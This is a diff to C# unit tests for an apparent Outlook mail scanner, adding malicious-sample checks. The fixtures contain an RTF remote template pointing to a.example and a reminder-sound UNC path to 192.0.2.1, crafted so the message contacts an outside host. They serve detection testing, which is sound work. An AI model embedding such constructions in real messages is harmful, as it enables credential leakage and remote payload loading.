@@ -20,8 +20,9 @@ public sealed class OutlookTests
 
         (report.Verdict, report.MediaType).ShouldBe((Verdict.Suspicious, "application/vnd.ms-tnef"), Judged.Text(report));
         report.Part("a long name.exe").MediaType.ShouldEndWith("portable-executable");
-        Judged.Of(OutlookMaker.Tnef((Begins, new byte[14]), (Title, "a.txt\0"u8.ToArray()), (Data, Samples.Text))).Verdict
-            .ShouldBe(Verdict.Clean);
+        Judged.Of(OutlookMaker.Tnef((0x0002800C, "A text.\0"u8.ToArray()), (Begins, new byte[14]),
+            (Data, "This attachment is a MAPI 1.0 embedded message and is not supported by this mail system.\0"u8.ToArray()),
+            (Begins, new byte[14]), (Title, "a.txt\0"u8.ToArray()), (Data, Samples.Text))).Verdict.ShouldBe(Verdict.Clean);
     }
 
     [Fact]
@@ -35,6 +36,34 @@ public sealed class OutlookTests
         report.Part("body.rtf").MediaType.ShouldBe("application/rtf", Judged.Text(report));
         report.Part("body.html").Verdict.ShouldBe(Verdict.Suspicious);
         report.Verdict.ShouldBe(Verdict.Malicious);
+    }
+
+    [Fact]
+    public void Complete_MessageWithRichText_OpensIt()
+    {
+        byte[] rtf = [.. new byte[8], .. "MELA"u8, 0, 0, 0, 0, .. "{\\rtf1{\\*\\template http://a.example/t.dotm}}"u8];
+        var message = new OleMaker().Add("__properties_version1.0", new byte[32]).Add("__substg1.0_10090102", rtf).ToArray();
+
+        Judged.Of(message).Part("body.rtf").Verdict.ShouldBe(Verdict.Suspicious);
+    }
+
+    /// <summary>The sound of a reminder lies on somebody's file share.</summary>
+    [Fact]
+    public void Complete_ReminderOfAShare_IsSuspicious()
+    {
+        const string share = @"\\192.0.2.1\a.wav";
+        var text = System.Text.Encoding.Unicode.GetBytes(share);
+        var message = new OleMaker().Add("__properties_version1.0", new byte[32]).Add("__substg1.0_8005001F", text).ToArray();
+        byte[] named = [.. new byte[16], 0, 0, 0, 0, 0x1F, 0x85, 0, 0, 1, 0, 0, 0, .. BitConverter.GetBytes(text.Length), .. text];
+        var winmail = OutlookMaker.Tnef((MessageProperties, [1, 0, 0, 0, 0x1F, 0, 0x1F, 0x85, .. named, .. new byte[3]]));
+
+        foreach (var file in (byte[][])[message, winmail])
+        {
+            var report = Judged.Of(file);
+
+            report.Verdict.ShouldBe(Verdict.Suspicious, Judged.Text(report));
+            report.Rules().ShouldBe(["office.file-share"]);
+        }
     }
 
     [Fact]
